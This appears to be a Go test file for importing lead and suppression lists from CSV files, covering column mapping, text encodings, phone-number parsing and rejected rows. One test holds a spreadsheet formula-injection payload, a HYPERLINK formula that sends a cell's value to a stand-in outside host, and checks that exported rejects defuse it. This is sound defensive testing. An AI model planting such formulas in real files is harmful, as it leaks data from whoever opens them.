package leadfile

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/text/encoding/unicode"

	"github.com/callhenk/henk-worker/internal/storetest"
)

func TestColumnsAreMappedByPlace(t *testing.T) {
	t.Parallel()
	// A name that comes twice, an empty one, and one that looks like a place.
	text := "Phone,Phone,,#2\n1,3125550100,Ada,3125550101\n"
	p, err := PreviewLeads(strings.NewReader(text), map[string]string{"#1": "-", "#2": "mobile_phone", "#3": "first_name", "#4": "phone"}, 5)
	require.NoError(t, err)
	require.Equal(t, []map[string]string{{"first_name": "Ada", "mobile_phone": "3125550100", "phone": "3125550101"}}, p.Rows)
	require.Equal(t, []Column{{"Phone", ""}, {"Phone", "mobile_phone"}, {"", "first_name"}, {"#2", "phone"}}, p.Columns)
	require.Equal(t, [][]string{{"1", "3125550100", "Ada", "3125550101"}}, p.Samples)
	for _, bad := range []string{"#0", "#-1", "#5", "#99999999999999999999", "#", "#x"} {
		_, err := PreviewLeads(strings.NewReader(text), map[string]string{bad: "phone"}, 5)
		require.ErrorContains(t, err, "no column", bad)
	}
}

func TestAPreviewWithoutMappingStillHasSamples(t *testing.T) {
	t.Parallel()
	encoded, err := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().String("wer;was\nJürgen;3125550100\nÅse;3125550101\n")
	require.NoError(t, err)
	p, err := PreviewLeads(strings.NewReader(encoded), nil, 5)
	require.ErrorIs(t, err, ErrNoContactColumn)
	require.Equal(t, [][]string{{"Jürgen", "3125550100"}, {"Åse", "3125550101"}}, p.Samples)
	require.Empty(t, p.Rows)
}

func TestPreviewOfNumbers(t *testing.T) {
	t.Parallel()
	p, err := PreviewSuppressions(strings.NewReader("312,5550100\nrubbish 99\n\n+1 312 555 0102\n3125550103\n"), 3)
	require.NoError(t, err)
	require.Equal(t, []string{"+13125550100", "+13125550102"}, p.Numbers)
	require.Len(t, p.Problems, 1)
	require.EqualValues(t, 2, p.Problems[0].Line)
	_, err = PreviewSuppressions(strings.NewReader("PK\x03\x04"), 3)
	require.ErrorIs(t, err, ErrPacked)
	_, err = PreviewSuppressions(strings.NewReader("name,colour\nAda,red\n"), 3)
	require.ErrorIs(t, err, ErrNoPhoneColumn)
}

func TestRejectsAreDefusedAndCanBeImportedAgain(t *testing.T) {
	t.Parallel()
	db := storetest.New(t)
	w := storetest.NewWorld(t, db, nil)
	formula := `=HYPERLINK("https://elsewhere.test/?"&A1)`
	var rejects bytes.Buffer
	r, err := ImportLeads(t.Context(), db, strings.NewReader("first name,city,phone\n"+`"`+strings.ReplaceAll(formula, `"`, `""`)+`",@SUM(1),`+"\n"),
		LeadOptions{BusinessID: w.Business, List: "L", Rejects: &rejects})
	require.NoError(t, err)
	require.EqualValues(t, 1, r.Rejected)
	rows, err := csv.NewReader(bytes.NewReader(rejects.Bytes())).ReadAll()
	require.NoError(t, err)
	require.Equal(t, []string{"2", "there is no phone, mobile phone or email", "'" + formula, "'@SUM(1)", ""}, rows[1])

	mended := strings.Replace(rejects.String(), "'@SUM(1),", "'@SUM(1),3125550100", 1)
	r, err = ImportLeads(t.Context(), db, strings.NewReader(mended), LeadOptions{BusinessID: w.Business, List: "L"})
	require.NoError(t, err)
	require.EqualValues(t, 1, r.Created)
	require.Equal(t, formula, scan[string](t, db, "select first_name from leads"))
}
